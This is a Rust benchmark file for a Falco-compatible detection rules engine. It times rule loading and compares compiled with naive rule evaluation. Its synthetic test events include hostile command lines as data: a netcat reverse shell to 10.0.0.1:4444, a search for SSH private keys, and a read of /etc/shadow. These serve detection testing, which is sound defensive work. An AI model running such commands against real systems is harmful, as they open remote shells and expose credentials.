//! Loader benchmarks: load + compile of Falco's three maintained rules files (target < 20 ms),
//! and evaluation of the compiled stable rules over a synthetic mix of opens, execs and
//! connects, next to `peregrine_testkit::naive::eval` of the same resolved conditions on the
//! same events (target ≥ 5× faster). Both use the per-type index, so the comparison is the
//! filter engine alone.
//!
//! `load_three_files` is the agent's own path (`peregrine -r a -r b -r c`, `Loader::new`:
//! every file validated by compiling everything collected so far, as Falco does), from the
//! texts in memory to the `RuleSet`; the rule set is dropped after the clock stops (the agent
//! keeps it for its lifetime). `load_three_files_compile_once` is the single-compile
//! variant, and `load_three_files_with_teardown` also times dropping the result.
//!
//! After criterion's own report, [`report_targets`] measures both targets once more in the
//! same process and prints each next to its target: the median and the best of repeated
//! runs (other load on a shared machine only ever adds time, so the best is the closer
//! estimate of the code's own cost), and the compiled/naive ratio of medians.

use criterion::{criterion_group, BatchSize, Criterion, Throughput};
use peregrine_filter::FieldSource;
use peregrine_rules::{Loader, Matching, RuleSet, Scratch};
use peregrine_testkit::synthetic::SyntheticEvent;
use std::hint::black_box;
use std::time::{Duration, Instant};

use peregrine_testkit::upstream::dir as upstream;

const FILES: [&str; 3] = [
    "rules/falco_rules.yaml",
    "rules/falco-incubating_rules.yaml",
    "rules/falco-sandbox_rules.yaml",
];

fn contents() -> Vec<(String, String)> {
    FILES
        .iter()
        .map(|f| {
            let p = upstream().join(f);
            let text = std::fs::read_to_string(&p).unwrap_or_default();
            (p.display().to_string(), text)
        })
        .collect()
}

/// Loads the three files as the agent does (or with a single compile).
fn load(files: &[(String, String)], once: bool) -> (RuleSet, peregrine_rules::LoadResults) {
    let mut l = if once {
        Loader::compile_once()
    } else {
        Loader::new()
    };
    for (name, text) in files {
        l.load_str(name, text);
    }
    l.finish()
}

fn bench_load(c: &mut Criterion) {
    let files = contents();
    // A missing upstream checkout must not pass for a fast load.
    assert!(
        load(&files, false).0.rules().len() > 50,
        "upstream rules files not found under {}",
        upstream().display()
    );
    let mut g = c.benchmark_group("load_compile");
    // One load per batch: the result is dropped after the clock stops, and memory is reused
    // from one load to the next as in a long-running process (keeping many results alive
    // would time fresh page faults instead).
    g.bench_function("load_three_files", |b| {
        b.iter_batched(|| (), |()| load(&files, false), BatchSize::PerIteration)
    });
    g.bench_function("load_three_files_compile_once", |b| {
        b.iter_batched(|| (), |()| load(&files, true), BatchSize::PerIteration)
    });
    g.bench_function("load_three_files_with_teardown", |b| {
        b.iter(|| load(&files, false))
    });
    g.finish();
}

/// A realistic mix: mostly benign opens and execs, some connects, a few events that match.
fn event_mix() -> Vec<SyntheticEvent> {
    let mut evs = Vec::new();
    let files = [
        "/etc/ld.so.cache",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/proc/self/status",
        "/etc/shadow",
        "/home/user/.bashrc",
        "/var/log/syslog",
        "/tmp/build/obj.o",
        "/dev/null",
    ];
    for (i, f) in files.iter().enumerate() {
        evs.push(
            SyntheticEvent::new(if i % 2 == 0 { "openat" } else { "open" })
                .with("fd.name", *f)
                .with("fd.directory", f.rsplit_once('/').map_or("/", |(d, _)| d))
                .with("fd.typechar", "f")
                .with("fd.num", 3i64)
                .with("evt.is_open_read", true)
                .with("evt.is_open_write", i % 3 == 0)
                .with("evt.rawres", 3i64)
                .with("proc.name", if i % 4 == 0 { "cat" } else { "python3" })
                .with("proc.pname", "bash")
                .with("proc.cmdline", "cat /etc/shadow")
                .with("proc.exe", "/usr/bin/cat")
                .with("container.id", "host")
                .with("user.name", "root"),
        );
    }
    let execs = [
        ("bash", "sshd", "bash -i"),
        ("ls", "bash", "ls -la"),
        ("nc", "bash", "nc -e /bin/sh 10.0.0.1 4444"),
        ("find", "bash", "find / -name id_rsa"),
        ("gcc", "make", "gcc -c x.c"),
        ("sh", "runc", "sh -c true"),
    ];
    for (name, parent, cmdline) in execs {
        evs.push(
            SyntheticEvent::new("execve")
                .with("proc.name", name)
                .with("proc.pname", parent)
                .with("proc.cmdline", cmdline)
                .with("proc.exe", format!("/usr/bin/{name}").as_str())
                .with("proc.args", cmdline.split_once(' ').map_or("", |(_, a)| a))
                .with("proc.tty", 34816i64)
                .with(
                    "container.id",
                    if name == "sh" { "3ad7b26ded6d" } else { "host" },
                )
                .with("user.name", "root")
                .with("evt.rawres", 0i64),
        );
    }
    for (ip, port) in [("10.1.2.3", 443u64), ("8.8.8.8", 53), ("127.0.0.1", 6443)] {
        evs.push(
            SyntheticEvent::new("connect")
                .with("fd.typechar", "4")
                .with("fd.sip", ip)
                .with("fd.sport", port)
                .with("fd.name", format!("172.17.0.2:40000->{ip}:{port}").as_str())
                .with("fd.l4proto", "tcp")
                .with("evt.rawres", 0i64)
                .with("proc.name", "curl")
                .with("container.id", "3ad7b26ded6d"),
        );
    }
    evs
}

fn stable() -> RuleSet {
    let mut l = Loader::new();
    let (name, text) = &contents()[0];
    l.load_str(name, text);
    l.finish().0
}

fn bench_eval(c: &mut Criterion) {
    let set = stable();
    let mut events = event_mix();
    let mut g = c.benchmark_group("evaluate_stable_rules");
    g.throughput(Throughput::Elements(events.len() as u64));
    let mut scratch = Scratch::new();
    let mut out = Vec::new();
    g.bench_function("compiled", |b| {
        b.iter(|| {
            let mut n = 0;
            for ev in events.iter_mut() {
                set.evaluate(ev, Matching::All, &mut scratch, &mut out);
                n += out.len();
            }
            black_box(n)
        })
    });
    g.bench_function("naive", |b| {
        b.iter(|| {
            let mut n = 0;
            for ev in events.iter_mut() {
                let t = ev.event_type();
                for &i in set.rules_for(t) {
                    if let Some(r) = set.rule(i) {
                        if peregrine_testkit::naive::eval(&r.condition, ev) {
                            n += 1;
                        }
                    }
                }
            }
            black_box(n)
        })
    });
    g.finish();
}

/// The median and the best of `runs` timings of `f`; what `f` returns is dropped after the
/// clock stops.
fn timings<T>(runs: usize, mut f: impl FnMut() -> T) -> (Duration, Duration) {
    let mut times: Vec<Duration> = (0..runs)
        .map(|_| {
            let t = Instant::now();
            let out = black_box(f());
            let elapsed = t.elapsed();
            drop(out);
            elapsed
        })
        .collect();
    times.sort_unstable();
    (times[times.len() / 2], times[0])
}

/// Issue 2's targets, measured here and printed as "measured vs target".
fn report_targets() {
    let files = contents();
    let (each, once) = (
        timings(31, || load(&files, false)),
        timings(31, || load(&files, true)),
    );

    let set = stable();
    let mut events = event_mix();
    let (mut scratch, mut out) = (Scratch::new(), Vec::new());
    // One sample is 200 passes over the mix, long enough for the clock.
    let (compiled, _) = timings(31, || {
        for _ in 0..200 {
            for ev in events.iter_mut() {
                set.evaluate(ev, Matching::All, &mut scratch, &mut out);
                black_box(out.len());
            }
        }
    });
    let (naive, _) = timings(31, || {
        for _ in 0..200 {
            for ev in events.iter_mut() {
                let t = ev.event_type();
                for &i in set.rules_for(t) {
                    if let Some(r) = set.rule(i) {
                        black_box(peregrine_testkit::naive::eval(&r.condition, ev));
                    }
                }
            }
        }
    });
    let per_event = |d: Duration| d.as_secs_f64() * 1e9 / (200 * events.len()) as f64;
    let ratio = naive.as_secs_f64() / compiled.as_secs_f64().max(1e-12);
    let verdict = |ok: bool| if ok { "met" } else { "MISSED" };
    let target = Duration::from_millis(20);
    let ms = |d: Duration| d.as_secs_f64() * 1e3;
    println!("\n== Issue 2 targets (31 runs each, in this process) ==");
    for (label, (med, best)) in [("as the agent loads", each), ("single compile", once)] {
        println!(
            "load + compile, three files, {label:<18}: median {:>6.2} ms, best {:>6.2} ms  \
             (target < 20 ms: {})",
            ms(med),
            ms(best),
            verdict(med < target)
        );
    }
    println!(
        "evaluate stable rules: compiled {:.0} ns/event, naive {:.0} ns/event: {:.1}x  \
         (target >= 5x: {})",
        per_event(compiled),
        per_event(naive),
        ratio,
        verdict(ratio >= 5.0)
    );
}

criterion_group!(benches, bench_load, bench_eval);

fn main() {
    benches();
    Criterion::default().configure_from_args().final_summary();
    report_targets();
}
